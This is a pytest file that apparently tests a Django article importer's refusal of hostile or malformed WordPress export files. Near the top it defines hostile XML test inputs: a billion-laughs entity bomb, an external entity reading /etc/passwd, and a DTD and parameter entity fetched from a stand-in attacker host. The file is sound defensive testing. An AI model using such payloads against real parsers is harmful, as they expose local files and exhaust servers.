"""Hostile and broken files are refused with a clear message, and nothing is written."""

import gzip
import io
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.test import override_settings

from articles import importers
from articles.models import Article
from moderation.models import Comment, ModerationEvent
from tests.conftest import build_wxr

pytestmark = pytest.mark.django_db

WP = 'xmlns:wp="http://wordpress.org/export/1.2/"'
BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<rss {WP}><channel><item><title>&lol9;</title><wp:post_id>1</wp:post_id></item></channel></rss>
"""
EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss {WP}><channel><item><title>&secret;</title><wp:post_id>1</wp:post_id></item></channel></rss>
"""
EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.invalid/evil.dtd">
<rss {WP}><channel><item><title>x</title><wp:post_id>1</wp:post_id></item></channel></rss>
"""
PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<rss {WP}><channel></channel></rss>
"""
LATE_DOCTYPE = f"""<?xml version="1.0"?>
<rss {WP}><!DOCTYPE rss [<!ENTITY a "b">]><channel></channel></rss>
"""
HTML_ENTITY = f"""<?xml version="1.0"?>
<rss {WP}><channel><item><title>Caf&eacute;</title><wp:post_id>1</wp:post_id></item>
</channel></rss>
"""
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02"


def nothing_written():
    return not (Article.objects.exists() or Comment.objects.exists()
                or ModerationEvent.objects.exists())


def refused(tmp_path, content, fmt="auto", name="hostile.xml") -> str:
    """Import `content` with the command; return its one-line error."""
    path = tmp_path / name
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    with pytest.raises(CommandError) as error:
        call_command("import_articles", str(path), "--format", fmt,
                     stdout=StringIO(), stderr=StringIO())
    assert nothing_written()
    message = str(error.value)
    assert "\n" not in message and "Traceback" not in message
    assert message.startswith(f"{path}: ")
    return message.removeprefix(f"{path}: ")


@pytest.mark.parametrize("content", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD,
                                     PARAMETER_ENTITY])
def test_document_types_and_entities_are_refused(tmp_path, content):
    message = refused(tmp_path, content)
    assert "declares a document type (<!DOCTYPE rss>)" in message
    assert "entity bomb" in message


def test_an_entity_bomb_is_refused_before_it_expands(tmp_path):
    # Ten levels of ten: a gigabyte of "lol" if anything expanded it.
    bomb = BILLION_LAUGHS.replace('"&lol4;', '"&lol8;').replace(
        " <!ENTITY lol9", "".join(
            f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(5, 9)
        ) + " <!ENTITY lol9")
    assert refused(tmp_path, bomb).startswith("The file declares a document type")


def test_a_document_type_inside_the_document_is_a_syntax_error(tmp_path):
    assert "not well-formed XML: not well-formed (invalid token) at line 2" in refused(
        tmp_path, LATE_DOCTYPE)


def test_an_html_entity_outside_cdata_is_explained(tmp_path):
    message = refused(tmp_path, HTML_ENTITY)
    assert "undefined entity &eacute;: at line 2" not in message
    assert "undefined entity" in message and "must be inside CDATA" in message


@pytest.mark.parametrize("declaration", ['<?xml version="1.0" encoding="UTF-8"?>',
                                         '<?xml version="1.0"?>', ""])
def test_an_export_in_latin_1_that_does_not_say_so_is_refused_naming_the_encoding(
        tmp_path, declaration):
    whole = build_wxr([{"post_id": 1, "title": "Caf\u00e9 news",
                        "comments": [{"id": 1, "approved": "1"}]}])
    latin_1 = whole.replace('<?xml version="1.0" encoding="UTF-8"?>', declaration, 1).encode(
        "latin-1")
    first_e_acute = latin_1.index("\u00e9".encode("latin-1"))
    assert refused(tmp_path, latin_1).startswith(
        "The file is not UTF-8, and its XML declaration names no other encoding: "
        f"byte {first_e_acute} cannot be read.")


def test_an_export_in_latin_1_that_says_so_is_read(tmp_path):
    whole = build_wxr([{"post_id": 1, "title": "Caf\u00e9 news",
                        "comments": [{"id": 1, "approved": "1"}]}])
    path = tmp_path / "latin-1.xml"
    path.write_bytes(whole.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"', 1).encode(
        "latin-1"))
    call_command("import_articles", str(path), stdout=StringIO(), stderr=StringIO())
    assert Article.objects.get().title == "Caf\u00e9 news"


def test_a_truncated_export_is_refused(tmp_path):
    whole = build_wxr([{"post_id": 1, "comments": [{"id": 1, "approved": "1"}]}])
    message = refused(tmp_path, whole[: len(whole) // 2])
    assert "The file ends too early" in message or "not well-formed XML" in message


def test_a_png_given_as_wxr_is_refused(tmp_path):
    assert refused(tmp_path, PNG, fmt="wxr") == (
        "This is a PNG image, not an export file. (You chose a WordPress "
        "export (WXR).)"
    )


def test_json_given_as_wxr_is_refused(tmp_path):
    document = json.dumps({"format": "newsroom-comments", "version": 1, "articles": []})
    assert "looks like an export in our JSON format, not a WordPress export" in refused(
        tmp_path, document, fmt="wxr")


def test_a_disqus_export_given_as_wxr_is_refused(tmp_path, corpus):
    content = (corpus / "disqus" / "isso-disqus.xml").read_bytes()
    assert "looks like a Disqus export, not a WordPress export" in refused(
        tmp_path, content, fmt="wxr")


@pytest.mark.parametrize(("content", "expected"), [
    (b"", "The file is empty."),
    (b"   \n", "The file is empty."),
    (gzip.compress(b"<rss/>"), "gzip-compressed"),
    (b"<html><body>Not an export</body></html>", "neither a WordPress export"),
    (b'<?xml version="1.0"?><rss version="2.0"><channel><item/></channel></rss>',
     "neither a WordPress export"),
    (b"Dear editor, please import my comments.", "not an export file we know"),
])
def test_files_that_are_no_export_are_named_for_what_they_are(tmp_path, content, expected):
    assert expected in refused(tmp_path, content)


@override_settings(IMPORT_MAX_BYTES=1000)
def test_a_file_over_the_upload_size_limit_is_refused_before_it_is_parsed(tmp_path):
    content = build_wxr([{"post_id": n} for n in range(20)])
    assert len(content) > 1000
    with pytest.raises(importers.ImportFailed) as error:
        importers.read_plan(io.BytesIO(content.encode()))
    assert "imports are limited to 0.0 MB (the IMPORT_MAX_BYTES setting)" in str(error.value)


@override_settings(IMPORT_MAX_BYTES=1000)
def test_the_command_line_imports_a_file_over_the_upload_size_limit(tmp_path):
    # The limit bounds what a browser may send; the operator's own file on the server
    # (a whole archive of a million comments, say) is not held to it.
    path = tmp_path / "archive.xml"
    path.write_text(build_wxr([{"post_id": n, "comments": [{"id": n, "approved": "1"}]}
                               for n in range(1, 21)]))
    assert path.stat().st_size > 1000
    call_command("import_articles", str(path), stdout=StringIO(), stderr=StringIO())
    assert Comment.objects.count() == 20


def test_a_parent_cycle_is_refused(tmp_path):
    content = build_wxr([{"post_id": 1, "comments": [
        {"id": 1, "approved": "1", "parent": 2}, {"id": 2, "approved": "1", "parent": 1}]}])
    assert "parent cycle" in refused(tmp_path, content)


def test_one_bad_file_among_several_writes_nothing(tmp_path, corpus):
    bad = tmp_path / "bad.xml"
    bad.write_bytes(build_wxr([{"post_id": 1, "comments": [
        {"id": 1, "approved": "1", "parent": 1}]}]).encode())
    with pytest.raises(CommandError):
        call_command("import_articles", str(corpus / "disqus" / "isso-disqus.xml"), str(bad),
                     stdout=StringIO())
    assert nothing_written()


def test_the_parser_reads_nothing_outside_the_file(tmp_path):
    # A file naming a local file as its DTD must not make us open it.
    path = tmp_path / "x.xml"
    path.write_text(f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{tmp_path}/missing.dtd">'
                    f"<rss {WP}><channel/></rss>")
    with open(path, "rb") as fileobj, pytest.raises(importers.ImportFailed, match="DOCTYPE"):
        importers.read_plan(fileobj)
